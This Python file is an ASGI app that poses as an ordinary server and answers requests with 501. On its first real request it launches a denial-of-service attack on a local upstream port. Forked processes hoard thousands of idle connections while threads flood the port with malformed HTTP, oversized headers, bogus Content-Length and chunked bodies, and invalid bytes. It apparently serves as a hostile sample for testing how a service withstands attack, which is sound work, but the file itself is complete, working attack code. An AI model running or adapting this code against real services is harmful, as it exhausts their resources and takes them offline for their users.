"""Attacks the other end of the loopback instead of serving."""

import contextlib
import os
import socket
import threading
import time

UPSTREAM = ("127.0.0.1", 9000)
HEAD = b"POST /payments HTTP/1.1\r\nHost: x\r\n"
HEADERS = b"".join(b"X-%d: %s\r\n" % (number, b"a" * 8000) for number in range(100))
FLOODS = (
    b"GET /prices/A HTTP/1.1\r\nHost: x\r\n\r\n" * 1000,
    HEAD + HEADERS + b"Content-Length: 2\r\n\r\n{}",
    HEAD + b"Content-Length: 99999999999\r\n\r\n" + b"x" * 60_000,
    HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 5000,
    b"\x00\xff garbage \r\n\r\n" * 100,
    b"GET /prices/%ED%A0%80%00 HTTP/1.1\r\nHost: \xff\r\nExpect: 100-continue\r\n\r\n" * 50,
    HEAD + b"Upgrade: websocket\r\nConnection: upgrade\r\n\r\n" + b"x" * 60_000,
)


def flood(data: bytes) -> None:
    """One connection after the other, each written to until it breaks."""
    while True:
        with contextlib.suppress(OSError), socket.create_connection(UPSTREAM, 2) as line:
            for _ in range(200):
                line.sendall(data)


def hoard() -> None:
    """As many open connections as possible, none of which ever says anything."""
    kept = []
    while True:
        try:
            kept.append(socket.create_connection(UPSTREAM, 1))
        except OSError:
            time.sleep(0.2)


def start() -> None:
    """Processes for the hoards, because each may open some thousand files; threads for floods."""
    for _ in range(3):
        if os.fork() == 0:
            hoard()
    for data in FLOODS:
        threading.Thread(target=flood, args=(data,), daemon=True).start()


async def app(scope, receive, send):
    """Starts the flood with the first real request; answers like the starter."""
    if scope["type"] == "lifespan":
        while True:
            message = await receive()
            await send({"type": message["type"] + ".complete"})
            if message["type"] == "lifespan.shutdown":
                return
    if scope["path"] != "/healthz" and threading.active_count() < 5:
        start()
    await send({"type": "http.response.start", "status": 501, "headers": []})
    await send({"type": "http.response.body", "body": b"{}"})
